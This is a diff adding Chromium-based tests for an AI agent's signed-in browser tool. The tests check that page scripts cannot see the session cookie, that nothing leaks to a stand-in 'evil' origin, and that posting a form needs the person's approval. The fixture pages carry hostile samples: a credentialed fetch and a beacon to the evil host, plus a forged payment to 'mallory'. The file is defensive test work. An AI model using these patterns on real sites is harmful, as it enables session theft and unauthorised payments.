@@ -1,0 +1,136 @@
+/**
+ * A page's own scripts after a person's session, in real Chromium: they run within the signed-in origin, and the cookie
+ * is nowhere that they could look. Else one hostile advertisement would be enough.
+ */
+import assert from "node:assert/strict";
+import { browserBundle } from "../../../browser/_fixture/bundle.ts";
+import { NOT_BUILT } from "../../../launch/program/bundles_powers.ts";
+import { testBundles } from "../../fake/kernel.ts";
+import { HAS_CHROMIUM } from "../../fake/chromium.ts";
+import { besiege, type Siege } from "../../fake/siege.ts";
+import {
+  acting,
+  AGENT,
+  does,
+  html,
+  namesKept,
+  profiles,
+  type Serve,
+  SESSION,
+  signIn,
+  type Sites,
+  withSites,
+} from "../../fake/signed_in.ts";
+import { granting, realTools } from "../../fake/tools.ts";
+
+const SIGNED_IN = `sid=${SESSION}`;
+
+async function inChromium(
+  shop: (sites: Sites) => Serve,
+  f: (siege: Siege, sites: Sites) => Promise<void>,
+): Promise<void> {
+  const serve: { shop?: Serve } = {};
+  await withSites({ shop: (request, url) => serve.shop?.(request, url) }, async (sites) => {
+    serve.shop = shop(sites);
+    const base = await realTools();
+    const policy = { ...granting([sites.shop, sites.evil]), clearance: {} };
+    const browser = {
+      ...{ engine: "chromium" as const, program: "/usr/lib/chromium/chromium" },
+      profiles: profiles(sites),
+    };
+    const { children } = await testBundles();
+    const bundles = { ...children, ...NOT_BUILT, browser: await browserBundle() };
+    await besiege(async (siege) => {
+      await signIn(siege, sites);
+      await f(siege, sites);
+    }, { config: { tools: base, policy, browser, bundles } });
+  });
+}
+
+const chromiumTest = (name: string, fn: () => Promise<void>): void =>
+  Deno.test({ name, fn, ignore: !HAS_CHROMIUM });
+
+chromiumTest(
+  "scripts of the page see no cookie, and what they set themselves goes nowhere",
+  async () => {
+    await inChromium(() => (_, { pathname }) => {
+      if (pathname === "/part") {
+        return new Response("part", { headers: { "set-cookie": "part=of-the-page; Path=/" } });
+      }
+      return html(`<p id="a">before</p><script>
+      const before = document.cookie;
+      document.cookie = "planted=by-script; path=/";
+      fetch("/part", { credentials: "include" }).then(() => {
+        document.getElementById("a").textContent = "cookies [" + before + "] then [" + document.cookie + "]";
+      });
+    </script>`);
+    }, async (siege, { shop, seen }) => {
+      const [page] = await does(siege, `await call("browser_open", { url: "${shop}/" });`);
+      assert.match(
+        page?.content ?? "",
+        /cookies \[\] then \[planted=by-script\]/,
+        JSON.stringify(page),
+      );
+      assert.deepEqual(seen.shop, [`GET / ${SIGNED_IN}`, `GET /part ${SIGNED_IN}`]);
+      assert.deepEqual(await namesKept(siege), ["part", "sid"]);
+    });
+  },
+);
+
+chromiumTest(
+  "nothing of the page reaches another origin: pictures, frames, fetches, a redirect, a form",
+  async () => {
+    await inChromium(({ evil }) => (_, { pathname }) => {
+      if (pathname === "/hop") {
+        return new Response(null, { status: 302, headers: { location: `${evil}/hop` } });
+      }
+      return html(`<p>orders</p>
+      <img src="${evil}/picture"><iframe src="${evil}/frame"></iframe>
+      <img src="/hop"><link rel="stylesheet" href="${evil}/style">
+      <form id="f" method="post" action="/pay"><input name="to" value="mallory"></form>
+      <script src="${evil}/script"></script>
+      <script>
+        fetch("${evil}/fetch", { credentials: "include", mode: "no-cors" }).catch(() => {});
+        navigator.sendBeacon("${evil}/beacon", "x");
+        fetch("/pay", { method: "POST", body: "to=mallory" }).catch(() => {});
+        setTimeout(() => document.getElementById("f").submit(), 10);
+      </script>`);
+    }, async (siege, { shop, seen }) => {
+      const [page] = await does(siege, `await call("browser_open", { url: "${shop}/" });`);
+      assert.equal(page?.outcome, "ok", JSON.stringify(page));
+      assert.deepEqual(seen.evil, []);
+      assert.deepEqual(seen.shop.filter((line) => !line.startsWith("GET ")), []);
+      assert.ok(seen.shop.includes(`GET / ${SIGNED_IN}`));
+    });
+  },
+);
+
+chromiumTest(
+  "what sends something asks the person, with the profile's name in the question",
+  async () => {
+    const form =
+      `<form method="post" action="/pay"><input name="to" value="bob"><button>Pay</button></form>`;
+    await inChromium(
+      () => (request) => html(request.method === "POST" ? "<p>paid</p>" : form),
+      async (siege, { shop, seen }) => {
+        const task = await siege.run({
+          program: acting(
+            `const page = await call("browser_open", { url: "${shop}/" });
+         const ref = /form (e\\d+)/.exec(page.content)[1];
+         await call("browser_post", { ref, snapshot: snapshot(page), url: "${shop}/pay", fields: {}, body: "to=bob" });`,
+          ),
+          ...{ agent: AGENT, onQuestion: "ask" },
+        });
+        const { body } = await task.first(({ event }) => event === "questionAsked");
+        const question = await siege.question(String(body["question"]));
+        assert.match(question.summary, /browser_post .*signed in with your browser profile "shop"/);
+        assert.deepEqual(seen.shop.filter((line) => line.startsWith("POST")), []);
+        await siege.answer(question.id, "allow");
+        await task.end;
+        assert.deepEqual(seen.shop.filter((line) => line.startsWith("POST")), [
+          `POST /pay ${SIGNED_IN}`,
+        ]);
+      },
+    );
+  },
+);
